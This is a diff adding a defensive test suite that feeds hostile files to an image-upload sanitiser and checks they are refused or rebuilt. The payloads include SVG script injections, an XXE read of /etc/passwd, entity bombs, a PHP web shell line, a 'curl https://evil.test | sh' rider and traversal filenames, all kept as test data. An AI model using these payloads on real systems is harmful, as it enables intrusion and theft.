@@ -1,0 +1,160 @@
+import sharp from 'sharp';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { howMany, longTest } from '../../test/deep.ts';
+import { prepareMedia } from './store-media.ts';
+
+const text = (content: string) => Buffer.from(content);
+const svg = (content: string) =>
+  text(
+    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:x="http://www.w3.org/1999/xhtml" width="40" height="30"><rect width="4" height="3"/>${content}</svg>`,
+  );
+
+const elements = (
+  'script foreignObject a animate set animateTransform animateMotion use image feImage style handler listener link cursor mpath ' +
+  'x:script x:iframe x:object x:embed x:img x:form x:meta x:base tref color-profile'
+).split(' ');
+const attributes = [
+  'onload="alert(1)"',
+  'onclick="alert(1)" onbegin="alert(1)"',
+  'href="javascript:alert(1)"',
+  'xlink:href="data:text/html,&lt;script>alert(1)&lt;/script>"',
+  'href="https://evil.test/x.svg#a" src="https://evil.test/x"',
+  'style="background:url(https://evil.test/x)" fill="url(https://evil.test/y)"',
+  'attributeName="href" to="javascript:alert(1)" values="javascript:alert(1)"',
+];
+const drawings = elements.flatMap((element) =>
+  attributes.map((attribute) => ({
+    name: `a drawing with ${element} ${attribute}`,
+    bytes: svg(`<${element} ${attribute}>alert(1)</${element}>`),
+  })),
+);
+
+const documents = [
+  ['<!DOCTYPE svg [<!ENTITY a "aaaa">]>', '&a;'],
+  ['<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '&a;'],
+  ['<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.test/a.dtd"> %a;]>', ''],
+  [
+    `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(50)}"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]>`,
+    '&c;',
+  ],
+  ['<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.test/svg11.dtd">', ''],
+  ['<?xml-stylesheet href="https://evil.test/a.xsl" type="text/xsl"?>', ''],
+  ['<?xml version="1.0" encoding="UTF-7"?>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
+].map(([before = '', inside = ''], at) => ({
+  name: `document ${at}`,
+  bytes: Buffer.concat([text(before), svg(`<text>${inside}</text>`)]),
+}));
+
+/** What somebody hides in a picture, and where. */
+const riders = [
+  '<script>alert(1)</script>',
+  '<!doctype html><html><body onload=alert(1)>',
+  '<?php system($_GET["c"]); ?>',
+  'PK\x03\x04evil.jar',
+  '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
+  'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
+  'MZ\x90\x00This program cannot be run in DOS mode.',
+  '#!/bin/sh\ncurl https://evil.test | sh',
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+  '*/=alert(1)//',
+];
+const formats = ['png', 'jpeg', 'gif', 'webp', 'avif'] as const;
+const names = [
+  'a.png',
+  'a.png.html',
+  'a.html.png',
+  'a.svg.png',
+  '../../a.png',
+  'a.png\0.html',
+  'a;.asp.png',
+  '.htaccess',
+];
+
+type Hostile = { readonly name: string; readonly bytes: Buffer; readonly rider?: string };
+let polyglots: Hostile[];
+
+beforeAll(async () => {
+  const picture = sharp({ create: { width: 24, height: 16, channels: 3, background: '#36a' } });
+  polyglots = [];
+  for (const format of formats) {
+    const plain = await picture.clone().toFormat(format).toBuffer();
+    for (const [at, rider] of riders.entries()) {
+      polyglots.push({ name: `${format} followed by ${at}`, bytes: Buffer.concat([plain, text(rider)]), rider });
+      const inside = await picture
+        .clone()
+        .withExif({ IFD0: { ImageDescription: rider.replaceAll('\0', ''), Copyright: rider.replaceAll('\0', '') } })
+        .toFormat(format)
+        .toBuffer();
+      polyglots.push({ name: `${format} that says ${at}`, bytes: inside, rider });
+    }
+  }
+  for (const [at, rider] of riders.entries())
+    for (const head of ['GIF89a', '\x89PNG\r\n\x1a\n', '\xff\xd8\xff\xe0', 'RIFF\0\0\0\0WEBPVP8 ', '<svgx>', ' '])
+      polyglots.push({
+        name: `the beginning ${JSON.stringify(head)} of ${at}`,
+        bytes: Buffer.from(head + rider, 'latin1'),
+        rider,
+      });
+}, longTest);
+
+const forbidden =
+  /<(?:script|foreignObject|style on)|javascript:|evil\.test|\son\w+=|data:|<a[\s>]|animate|<set|handler|listener|<!|<\?|<(?:feImage|iframe|object|embed|link|meta|base|form|tref|x:)/i;
+
+describe('hostile files (T24)', () => {
+  it(
+    'are refused, or stored as a picture made anew, however they are called',
+    async () => {
+      const all: Hostile[] = [...drawings, ...documents, ...polyglots];
+      const step = Math.ceil(all.length / howMany({ sample: 70, deep: all.length }));
+      const tried = all.filter((_, at) => at % step === 0);
+      const kept: string[] = [];
+      let stored = 0;
+      for (const [at, { name, bytes, rider }] of tried.entries()) {
+        const media = await prepareMedia(bytes, names[at % names.length] ?? '').catch(
+          (error: { code?: string }) => error,
+        );
+        if (!('content' in media)) {
+          if (media.code !== 'INVALID' && media.code !== 'TOO_LARGE') kept.push(`${name} broke it: ${media.code}`);
+          continue;
+        }
+        stored += 1;
+        const { content, type } = media;
+        if (content.equals(bytes)) kept.push(`${name} is stored as given`);
+        if (rider && content.includes(rider)) kept.push(`${name} still says it`);
+        if (!['image/webp', 'image/svg+xml'].includes(type.content_type)) kept.push(`${name} is ${type.content_type}`);
+        if (type.content_type === 'image/svg+xml' && forbidden.test(content.toString()))
+          kept.push(`${name}: ${content.toString()}`);
+      }
+      console.info(
+        `${tried.length} of ${all.length} hostile files, ${stored} made anew, ${tried.length - stored} refused`,
+      );
+      expect(kept).toEqual([]);
+      expect(all.length).toBeGreaterThan(300);
+      expect(stored).toBeGreaterThan(tried.length / 4);
+    },
+    longTest,
+  );
+
+  it.each([
+    ['plainly', '<g>'],
+    ['behind the ends of tags in quotes', '<g fill="/>">'],
+    ['between comments', '<!-- </g> --><g>'],
+  ])('that nest ten thousand elements %s are refused at once', async (_how, begin) => {
+    const began = performance.now();
+    const bytes = svg(begin.repeat(10_000) + '</g>'.repeat(10_000));
+    await expect(prepareMedia(bytes, 'bomb.svg')).rejects.toMatchObject({ code: 'TOO_LARGE' });
+    expect(performance.now() - began).toBeLessThan(1000);
+  });
+
+  it('do not take more memory than a picture may', async () => {
+    const flat = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: '#000' } })
+      .png()
+      .toBuffer();
+    const before = process.memoryUsage().rss;
+    const refused = Array.from({ length: 20 }, () =>
+      prepareMedia(flat, 'bomb.png').catch(({ code }: { code: string }) => code),
+    );
+    expect(new Set(await Promise.all(refused))).toEqual(new Set(['TOO_LARGE']));
+    expect((process.memoryUsage().rss - before) / 1024 / 1024).toBeLessThan(256);
+  });
+});
